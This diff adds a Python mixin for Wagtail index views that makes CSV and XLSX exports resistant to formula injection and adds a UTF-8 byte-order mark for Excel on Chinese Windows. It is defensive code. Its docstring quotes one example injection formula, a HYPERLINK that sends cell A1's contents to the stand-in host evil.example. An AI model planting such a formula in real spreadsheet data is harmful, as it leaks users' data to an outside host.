@@ -1,0 +1,66 @@
+"""Spreadsheet exports that are safe to open: no formula injection, Chinese that Excel reads.
+
+A cell typed as ``=HYPERLINK("http://evil.example/?"&A1, "点击")`` or ``@SUM(...)`` is data
+to us, but Excel and WPS run it as a formula when they open a CSV (CWE-1236). Text cells that
+begin like a formula are given a leading apostrophe in CSV, as OWASP recommends; in .xlsx
+they are stored as text cells, which no spreadsheet program evaluates.
+
+Wagtail's listing export (``list_export``, ?export=csv) writes values as they are and no
+byte-order mark, so Excel on a Chinese Windows also reads its UTF-8 as GBK (mojibake).
+``SafeSpreadsheetExportMixin`` fixes both for any Wagtail index view.
+"""
+
+import codecs
+from typing import Any
+
+from django.http import StreamingHttpResponse
+
+# What a spreadsheet program may read as the start of a formula (OWASP: CSV injection).
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def neutralise_formula(value: Any) -> Any:
+    """``value``, with a leading ``'`` when it is text a spreadsheet would run as a formula.
+
+    Numbers (including negative ones) and other non-text values are returned unchanged.
+    """
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
+class SafeSpreadsheetExportMixin:
+    """Put before Wagtail's ``IndexView`` (or any ``SpreadsheetExportMixin`` view):
+    ``class ScopedIndexView(SafeSpreadsheetExportMixin, generic.IndexView)``.
+
+    CSV: formula-like text cells get a leading apostrophe, the file starts with a UTF-8 BOM
+    and says ``charset=utf-8``. XLSX: Wagtail already stores formula-like text as text
+    cells; ``generate_xlsx_row`` makes sure of it for all text, which openpyxl would also
+    turn into an error cell when it reads like one ("#N/A").
+    """
+
+    def write_csv_row(self, writer, row_dict):
+        return writer.writerow(
+            {
+                field: neutralise_formula(
+                    self.preprocess_field_value(field, value, self.FORMAT_CSV)
+                )
+                for field, value in row_dict.items()
+            }
+        )
+
+    def stream_csv(self, queryset):
+        yield codecs.BOM_UTF8  # Wagtail's CSV writer yields UTF-8 bytes too
+        yield from super().stream_csv(queryset)
+
+    def write_csv_response(self, queryset):
+        response = super().write_csv_response(queryset)
+        if isinstance(response, StreamingHttpResponse):
+            response["Content-Type"] = "text/csv; charset=utf-8"
+        return response
+
+    def generate_xlsx_row(self, worksheet, row_dict, date_format=None):
+        for cell in super().generate_xlsx_row(worksheet, row_dict, date_format=date_format):
+            if isinstance(cell.value, str):
+                cell.data_type = "s"
+            yield cell
